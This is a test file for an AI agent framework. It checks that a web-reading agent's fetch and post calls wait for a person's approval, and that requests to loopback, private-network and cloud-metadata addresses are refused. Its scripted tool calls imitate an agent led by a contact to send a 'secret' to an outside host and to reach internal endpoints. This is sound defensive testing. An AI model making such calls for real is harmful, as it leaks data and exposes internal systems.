import { mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, it, onTestFinished } from "vitest";
import { openApp } from "../../src/app.ts";
import { APPROVAL_API } from "../../src/features/approvals/index.ts";
import { scripted } from "../../src/models/index.ts";
import { agentName, contactId } from "../../src/protocol/index.ts";
import { messageText, said } from "./home.ts";

/** A server of this machine, which counts who comes. */
async function inside(): Promise<{ readonly port: number; readonly came: () => number }> {
  let came = 0;
  const server = createServer((_, response) => response.end("keys")).on("connection", () => came++);
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  onTestFinished(() => void server.close());
  const address = server.address();
  if (address === null || typeof address === "string") throw new Error("it listens nowhere");
  return { port: address.port, came: () => came };
}

/** An agent that reads the web and whose model calls what it is told to, with what it read of each answer. */
async function reader(fetch: object | undefined, calls: readonly (readonly [tool: string, input: object])[]) {
  const data = mkdtempSync(join(tmpdir(), "strata-"));
  onTestFinished(() => rmSync(data, { recursive: true, force: true }));
  const layers = [{ id: "rules", rank: 1, text: "Read what you are asked to." }];
  const tools = ["http_fetch", "http_post"];
  const agent = { description: "Reads the web.", layers, tools, ...(fetch && { fetch }) };
  const app = await openApp({
    folder: data,
    data,
    env: {},
    config: { organization: "home", agents: { reader: agent } },
  });
  onTestFinished(() => app.close());
  const parts = calls.map(([call, input], at) => ({ call, id: `c${at}`, input: JSON.parse(JSON.stringify(input)) }));
  const { model, sent } = scripted([{ parts }, "Read."]);
  const to = { agent: agentName("reader"), contact: contactId("ann"), channel: "test", key: "main" };
  const thread = await app.runtime.open(app.operator, to);
  await app.runtime.post(app.operator, thread, [said("Read this.")]);
  for await (const event of app.runtime.run(app.operator, thread, { model }))
    if (event.type === "failed") throw event.error;
  const waiting = await app.runtime.use(APPROVAL_API).approvals(app.operator, thread.scope, { status: "waiting" }, 10);
  return { app, waiting, read: messageText(sent[1]?.messages.at(-1) ?? { role: "tool", parts: [] }) };
}

it("001.2 a model that obeys a contact sends nothing to an address of theirs without a person's word", async () => {
  const { app, waiting, read } = await reader({ seconds: 0.5, post: ["nowhere.invalid"] }, [
    ["http_fetch", { url: "http://nowhere.invalid/?secret=1" }],
    ["http_post", { url: "http://nowhere.invalid/", body: "{}" }],
  ]);
  expect(read).toContain("Not run yet: http_fetch is waiting for a person's approval");
  expect(read).toContain("Not run yet: http_post is waiting for a person's approval");
  expect(waiting).toHaveLength(2);
  for (const { id } of waiting)
    expect(await app.runtime.use(APPROVAL_API).decide(app.operator, id, { verdict: "approved" })).toMatchObject({
      outcome: { failed: true, text: expect.stringMatching(/^(?:The address of|No answer came within)/) },
    });
});

it("001.2 asks no person for what is refused whoever approves it: an address inside, another port, a host that is not named", async () => {
  const { port, came } = await inside();
  const { waiting, read } = await reader(undefined, [
    ["http_fetch", { url: `http://127.0.0.1:${port}/?secret=1` }],
    ["http_fetch", { url: "http://169.254.169.254/latest/meta-data" }],
    ["http_fetch", { url: "http://[::1]/" }],
    ["http_fetch", { url: `http://localhost:${port}/` }],
    ["http_fetch", { url: "https://example.org:99/" }],
    ["http_post", { url: "http://10.0.0.1/", body: "{}" }],
    ["http_post", { url: "https://example.org/", body: "{}" }],
  ]);
  expect(waiting).toEqual([]);
  for (const message of [
    "127.0.0.1 is this machine itself",
    "169.254.169.254 is in the local network",
    "[::1] is this machine itself",
    "localhost is 127.0.0.1, which is this machine itself",
    "names the port 99",
    "10.0.0.1 is in a private network",
    "leads to example.org:443, and this agent may reach no host",
  ])
    expect(read).toContain(message);
  expect(came()).toBe(0);
});

it("001.2 no declaration opens what is inside: named hosts are asked at once, and only on the public web", async () => {
  const { port, came } = await inside();
  const hosts = [`*:${port}`, `127.0.0.1:${port}`, `localhost:${port}`];
  const { waiting, read } = await reader({ allow: hosts, post: hosts }, [
    ["http_fetch", { url: `http://127.0.0.1:${port}/` }],
    ["http_fetch", { url: `http://localhost:${port}/` }],
    ["http_fetch", { url: `http://[::ffff:7f00:1]:${port}/` }],
    ["http_fetch", { url: "https://example.org:99/" }],
  ]);
  expect(waiting).toEqual([]);
  expect(read.match(/is this machine itself. Only the public web can be reached/g)).toHaveLength(3);
  expect(read).toContain(`leads to example.org:99, and this agent may reach only *:${port}`);
  expect(came()).toBe(0);
});
